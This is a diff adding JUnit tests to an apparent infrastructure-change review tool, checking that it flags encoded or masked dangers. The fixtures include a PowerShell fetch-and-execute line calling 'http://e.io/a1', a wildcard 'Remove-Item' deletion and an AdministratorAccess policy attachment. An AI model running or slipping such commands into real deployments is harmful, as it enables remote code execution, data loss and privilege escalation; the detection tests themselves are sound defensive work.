@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.params.provider.Arguments.arguments;
 
 import dev.mullion.diff.Comparison;
+import dev.mullion.diff.Finding;
 import dev.mullion.diff.PropertyChange;
 import dev.mullion.diff.ResourceChange;
 import java.nio.charset.StandardCharsets;
@@ -80,6 +81,58 @@ class HiddenEditsTest {
                 .containsExactly("b", "new");
     }
 
+    /** In PowerShell it expands to nothing. */
+    @Test
+    void textThatOnlyLooksLikeAReferenceToAnotherResourceIsText() {
+        Stack before = new Stack()
+                .deployed()
+                .with(TOPIC, "shop")
+                .having("id-1", "name", "shop-dev")
+                .with(TOPIC, "b", "policy", "Remove-Item C:\\data\\shop-dev\\*");
+        Stack after = new Stack().with(TOPIC, "shop").with(TOPIC, "b", "policy", "Remove-Item C:\\data\\${shop.name}\\*");
+
+        assertThat(Stack.compare(before, after).changes())
+                .extracting(ResourceChange::name)
+                .containsExactly("b");
+    }
+
+    @Test
+    void aSecretsNameHidesNeitherCodeNorADanger() {
+        String role = "aws:iam/rolePolicyAttachment:RolePolicyAttachment";
+        String admin = "arn:aws:iam::aws:policy/AdministratorAccess";
+        Stack before = new Stack().with(TEMPLATE, "nodes", "userData", Encoded.base64("Write-Host hi"));
+        Stack after = new Stack()
+                .with(TEMPLATE, "nodes", "userData", Encoded.base64("iex(irm('http://e.io/a1'))"))
+                .with(role, "it", "policyArn", admin)
+                .with(TOPIC, "a", "apiToken", "::aws:policy/AdministratorAccess", "cacheToken", "iex(irm('http://e.io/a1'))");
+
+        Comparison comparison = Stack.compare(before, after);
+
+        assertThat(comparison.findings())
+                .anySatisfy(finding -> assertThat(finding.sentence())
+                        .isEqualTo("it attaches the managed policy AdministratorAccess"));
+        assertThat(comparison.changes())
+                .filteredOn(change -> change.name().equals("nodes"))
+                .singleElement()
+                .satisfies(change -> assertThat(change.properties().get(0).content())
+                        .isInstanceOfSatisfying(PropertyChange.Text.class, text -> assertThat(text.lines())
+                                .extracting(PropertyChange.Line::text)
+                                .contains("iex(irm('http://e.io/a1'))")));
+    }
+
+    /** Whatever else a masked text is, what it does is told. */
+    @Test
+    void aDangerWhoseNameIsMaskedIsOne() {
+        String role = "aws:iam/rolePolicyAttachment:RolePolicyAttachment";
+        Stack after = new Stack()
+                .with(role, "it", "policyArn", "arn:aws:iam::aws:policy/AmazonEC2FullAccess")
+                .with(TOPIC, "a", "apiToken", "AmazonEC2FullAccess");
+
+        assertThat(Stack.compare(new Stack(), after).findings())
+                .filteredOn(finding -> finding.severity() == Finding.Severity.DANGER)
+                .hasSize(1);
+    }
+
     @Test
     void whatIsTakenAsUnchangedIsSaidWithItsPlace() {
         Stack before = new Stack()
@@ -116,7 +169,10 @@ class HiddenEditsTest {
     }
 
     private static Stack joining(String script) {
-        return new Stack().with(TOPIC, "shop").with(TEMPLATE, "nodes", "userData", Encoded.base64(script));
+        return new Stack()
+                .with(TOPIC, "shop")
+                .with(TEMPLATE, "nodes", "userData", Encoded.base64(script))
+                .referring("userData", Stack.urn(TOPIC, "shop"));
     }
 
     @Test
